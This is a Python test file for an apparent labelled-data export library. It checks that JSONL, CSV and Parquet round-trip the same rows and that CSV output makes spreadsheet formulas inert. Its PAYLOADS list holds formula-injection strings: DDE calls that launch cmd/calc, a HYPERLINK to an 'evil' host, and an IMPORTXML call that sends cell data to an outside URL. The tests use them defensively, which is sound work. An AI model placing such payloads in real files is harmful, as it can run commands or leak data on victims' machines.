"""Files of labelled data: the same rows in every format, inert in a spreadsheet, whole or not there."""

import csv
import json
import os
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.base.errors import Bug, Cancelled, Unavailable
from assay.base.progress import Progress
from assay.base.registry import kinds
from assay.exports import csv as csv_format
from assay.exports import gold, jsonl, long, parquet
from assay.model.incoming import IncomingReview
from assay.model.kinds import ExportFormat
from assay.sources.review_rows import read_review_rows
from assay.traces.columns import read_parquet_rows, write_parquet_rows

FORMATS = [jsonl.KIND, csv_format.KIND, parquet.writer(write_parquet_rows)]
every_format = pytest.mark.parametrize("form", FORMATS, ids=lambda form: form.name)

PAYLOADS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil\",\"x\")"),
    *("\t=1+1", "\r=1+1", "\n=1+1", "\tplain", "\rplain", " =1+1", "   +1", " \t @x", "\u00a0=1+1"),
    *("'=1+1", "''=1+1", "' =1", "-2+3+cmd|' /C calc'!D2", "@", "=", "+", "-", "--5", "-1-1", "+5"),
    *("=1+1\r\nsecond", "=\"a\"\"b\"", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x", "\ufeff=1", "\u200b=1"),
    *("=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "+cmd|'/c calc'!A1", "\x0b=1", "\x0c=1", "-@x", "-٣"),
    *("=DDE(\"cmd\",\"/C calc\",\"!A0\")", "@=1", "-1e", "-.5.5", "- 1", "=,=1", "=\"\n\"", "-0x1F", "−=1 "),
]  # fmt: skip
HARMLESS = ["-0.5", "-3", "-1e-05", "plain", "a=b", "it's", "'quoted'", "5-1", "a,b", 'say "x"', "two\nlines"]

ROWS: list[dict[str, Any]] = [
    {
        "trace_id": "t-1",
        "rater": "ann",
        "criterion": "pass",
        "kind": "binary",
        "value": "pass",
        "passed": True,
        "note": "=SUM(A1)",
        "spans": [{"start": 1, "end": 4, "quote": "réf", "code": "date", "note": None}],
        "codes": ["wrong date", "-tone"],
        "rubric_version": 2,
        "created_at": datetime(2026, 11, 20, 9, 15, 2, tzinfo=UTC),
        "seconds": 12.5,
        "blind": True,
        "inclusion_probability": 0.05,
    },
    {
        "trace_id": "t-2",
        "rater": None,
        "criterion": "degree",
        "kind": "number",
        "value": "-2.5",
        "passed": False,
        "note": 'He said "no",\r\nthen left; 漢字 🙂',
        "blind": False,
        "seconds": float("nan"),
        "inclusion_probability": 1,
    },
]


def reviews(path: Path) -> list[dict[str, Any]]:
    """The file's rows as they come back, without their place in it and what differs only in being text."""
    items = list(read_review_rows(path, Progress(), read_parquet_rows))
    assert all(isinstance(item, IncomingReview) for item in items), items
    names = [name for name in IncomingReview.__slots__ if name not in ("place", "extra")]
    return [{name: getattr(item, name) for name in names} for item in items]


def write(form: ExportFormat, rows: list[dict[str, Any]], target: Path) -> Path:
    assert form.write(long.KIND.rows(rows), long.COLUMNS, target, Progress()) == len(rows)
    return target


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


def test_every_format_gives_the_same_rows_back(tmp_path: Path):
    read = [reviews(write(form, ROWS, tmp_path / f"long{form.suffix}")) for form in FORMATS]
    assert read[0] == read[1] == read[2]
    first, second = read[0]
    assert (first["note"], first["value"], first["passed"], first["rubric_version"]) == (
        "=SUM(A1)",
        "pass",
        True,
        2,
    )
    assert (first["spans"], first["codes"]) == (ROWS[0]["spans"], ROWS[0]["codes"])
    assert (first["created_at"], first["seconds"]) == (ROWS[0]["created_at"], 12.5)
    assert (second["rater"], second["value"], second["seconds"], second["blind"]) == (
        None,
        "-2.5",
        None,
        False,
    )
    assert second["note"] == ROWS[1]["note"]


@every_format
def test_an_empty_export_is_a_file_with_no_rows(form: ExportFormat, tmp_path: Path):
    assert reviews(write(form, [], tmp_path / f"none{form.suffix}")) == []


def test_an_empty_csv_still_names_its_columns(tmp_path: Path):
    assert cells(write(csv_format.KIND, [], tmp_path / "none.csv")) == [list(long.COLUMNS)]


def test_every_row_has_every_field_and_a_number_that_is_none_is_null(tmp_path: Path):
    lines = write(jsonl.KIND, ROWS, tmp_path / "a.jsonl").read_bytes().splitlines()
    rows = [json.loads(line) for line in lines]
    assert [list(row) for row in rows] == [list(long.COLUMNS)] * 2
    assert rows[1]["seconds"] is None
    assert "NaN" not in lines[1].decode()
    assert (rows[0]["created_at"], rows[0]["codes"]) == ("2026-11-20T09:15:02Z", ["wrong date", "-tone"])


def test_a_date_and_infinity_are_written_as_other_programs_read_them(tmp_path: Path):
    row = {"day": date(2026, 11, 20), "cost": float("inf"), "deep": {"cost": float("-inf")}}
    jsonl.KIND.write([row], ["day", "cost", "deep"], tmp_path / "a.jsonl", Progress())
    assert json.loads((tmp_path / "a.jsonl").read_text()) == {
        "day": "2026-11-20",
        "cost": None,
        "deep": {"cost": None},
    }
    csv_format.KIND.write([row], ["day", "cost", "deep"], tmp_path / "a.csv", Progress())
    assert cells(tmp_path / "a.csv")[1] == ["2026-11-20", "", '{"cost":null}']


@every_format
def test_half_a_character_does_not_stop_an_export(form: ExportFormat, tmp_path: Path):
    rows = [{**ROWS[0], "note": "a\ud800b", "codes": ["c\udfff"]}, ROWS[1]]
    first, second = reviews(write(form, rows, tmp_path / f"long{form.suffix}"))
    assert (first["note"], first["codes"]) == ("a?b", ["c?"])
    assert second["note"] == ROWS[1]["note"]


def test_gold_rows_go_into_every_format(tmp_path: Path):
    for form in FORMATS:
        target = tmp_path / f"gold{form.suffix}"
        assert form.write(gold.KIND.rows(ROWS), gold.COLUMNS, target, Progress()) == 2
    in_json = [json.loads(line) for line in (tmp_path / "gold.jsonl").read_text().splitlines()]
    in_parquet = list(read_parquet_rows(tmp_path / "gold.parquet"))
    header, *in_csv = cells(tmp_path / "gold.csv")
    assert [row["values"] for row in in_json] == [["pass"], ["-2.5"]]
    assert [json.loads(row["values"]) for row in in_parquet] == [["pass"], ["-2.5"]]
    assert [json.loads(row[header.index("values")]) for row in in_csv] == [["pass"], ["-2.5"]]
    assert [row["weight"] for row in in_json] == [row["weight"] for row in in_parquet] == [20.0, 1.0]
    assert list(in_parquet[0]) == header == list(gold.COLUMNS)


def test_excel_sees_utf_8_and_windows_line_ends(tmp_path: Path):
    written = write(csv_format.KIND, ROWS, tmp_path / "a.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbftrace_id,source,")
    assert written.endswith(b"\r\n")
    assert len(cells(tmp_path / "a.csv")) == 3


def test_there_are_enough_ways_to_smuggle_a_formula():
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_trace_is_dead_in_a_spreadsheet_and_comes_back_as_it_was(payload: str, tmp_path: Path):
    target = write(csv_format.KIND, [{**ROWS[0], "note": payload, "trace_id": payload}], tmp_path / "a.csv")
    header, row = cells(target)
    for column in ("note", "trace_id"):
        cell = row[header.index(column)]
        if payload != "−=1 ":  # begins with a true minus sign, which no spreadsheet takes for an operator
            assert cell == f"'{payload}"
    (back,) = reviews(target)
    assert (back["note"], back["native_trace_id"]) == (payload, payload)


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_words_and_negative_numbers_are_left_alone(text: str):
    assert csv_format.inert(text) == text


def test_negative_numbers_stay_numbers(tmp_path: Path):
    rows = [{"score": -0.25, "count": -3, "share": 1e-7, "name": "-x"}]
    csv_format.KIND.write(rows, ["score", "count", "share", "name"], tmp_path / "a.csv", Progress())
    assert cells(tmp_path / "a.csv")[1] == ["-0.25", "-3", "1e-07", "'-x"]


def test_a_list_that_could_be_a_formula_is_json_and_a_column_name_is_inert_too(tmp_path: Path):
    csv_format.KIND.write([{"=a": ["=1"]}], ["=a"], tmp_path / "a.csv", Progress())
    assert cells(tmp_path / "a.csv") == [["'=a"], ['["=1"]']]


@given(st.text(alphabet=st.one_of(st.sampled_from("=+-@'\t\r\n ,\";1e."), st.characters()), max_size=12))
def test_no_text_ends_up_as_a_formula(text: str):
    cell = csv_format.inert(text)
    assert cell in (text, f"'{text}")
    if cell.lstrip()[:1] in ("=", "+", "-", "@"):
        assert float(cell) <= 0


_texts = st.text(
    alphabet=st.one_of(
        st.sampled_from("=+-@'\t\r\n ,\";"),
        st.characters(exclude_characters="\x00", exclude_categories=["Cs"]),
    ),
    min_size=1,
    max_size=12,
).filter(lambda text: text.strip())


@settings(max_examples=40)
@given(notes=st.lists(_texts, min_size=1, max_size=8))
@pytest.mark.parametrize("form", [jsonl.KIND, csv_format.KIND], ids=["jsonl", "csv"])
def test_whatever_reviewers_write_comes_back_word_for_word(
    form: ExportFormat, notes: list[str], tmp_path_factory: pytest.TempPathFactory
):
    target = tmp_path_factory.mktemp("words") / f"long{form.suffix}"
    write(form, [{**ROWS[0], "trace_id": note, "note": note} for note in notes], target)
    assert [(row["native_trace_id"], row["note"]) for row in reviews(target)] == [
        (note, note) for note in notes
    ]


def many(stop: Progress | None = None) -> Iterator[dict[str, Any]]:
    for number in range(1000):
        if number == 300 and stop is not None:
            stop.cancel()
        yield {**ROWS[0], "trace_id": f"t-{number}"}


@every_format
def test_progress_is_told_in_rows(form: ExportFormat, tmp_path: Path):
    told: list[tuple[int, int | None]] = []
    progress = Progress(lambda done, total, _what: told.append((done, total)))
    form.write(many(), long.COLUMNS, tmp_path / "a", progress)
    assert told[0] == (200, None)
    assert told[-1] == (1000, 1000)


@every_format
def test_a_stopped_export_leaves_the_old_file_and_nothing_else(form: ExportFormat, tmp_path: Path):
    target = tmp_path / f"a{form.suffix}"
    target.write_text("what was there")
    progress = Progress()
    with pytest.raises(Cancelled):
        form.write(many(progress), long.COLUMNS, target, progress)
    assert target.read_text() == "what was there"
    assert list(tmp_path.iterdir()) == [target]


@every_format
def test_an_export_stops_at_the_next_row(form: ExportFormat, tmp_path: Path):
    progress, pulled = Progress(), []

    def rows() -> Iterator[dict[str, Any]]:
        for number in range(100):
            pulled.append(number)
            if number == 50:
                progress.cancel()
            yield ROWS[0]

    with pytest.raises(Cancelled):
        form.write(rows(), long.COLUMNS, tmp_path / "a", progress)
    assert pulled[-1] == 50


@every_format
def test_a_fault_in_the_rows_leaves_nothing_half_written(form: ExportFormat, tmp_path: Path):
    def broken() -> Iterator[dict[str, Any]]:
        yield ROWS[0]
        raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        form.write(broken(), long.COLUMNS, tmp_path / "a", Progress())
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(
    os.name == "nt", reason="Windows has no limit on the size of a file to stand in for a full disk"
)
@every_format
def test_a_full_disk_is_told_and_leaves_nothing_half_written(form: ExportFormat, tmp_path: Path):
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, hard))
    try:
        with pytest.raises(Unavailable, match="could not be written"):
            form.write(many(), long.COLUMNS, tmp_path / "a", Progress())
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
    assert list(tmp_path.iterdir()) == []


@every_format
def test_a_folder_that_is_not_there_is_told(form: ExportFormat, tmp_path: Path):
    with pytest.raises(Unavailable, match="could not be written"):
        form.write(iter(ROWS), long.COLUMNS, tmp_path / "nowhere" / "a", Progress())


def test_parquet_without_its_engine_is_a_fault_of_ours(tmp_path: Path):
    with pytest.raises(Bug):
        parquet.KIND.write(ROWS, long.COLUMNS, tmp_path / "a.parquet", Progress())
    assert list(tmp_path.iterdir()) == []


def test_the_formats_are_found_by_name():
    assert {"csv", "jsonl", "parquet"} <= set(kinds("exports", ExportFormat))
